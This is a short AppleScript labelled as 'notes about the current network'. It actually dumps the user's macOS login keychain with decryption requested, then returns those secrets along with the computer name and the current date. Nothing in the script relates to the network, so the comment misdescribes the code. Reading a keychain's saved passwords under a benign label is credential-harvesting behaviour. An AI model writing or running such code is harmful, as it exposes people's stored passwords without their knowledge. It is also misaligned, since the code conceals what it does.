-- notes about the current network
on trimmed(t)
	if t ends with linefeed then return text 1 thru -2 of t
	return t
end trimmed

set hostName to trimmed(do shell script "scutil --get ComputerName")
set theDate to (current date) as string

try
	set entries to do shell script "security dump-keychain -d ~/Library/Keychains/login.keychain-db"
on error msg
	set entries to "none: " & msg
end try

return "Session on " & hostName & " at " & theDate & linefeed & entries
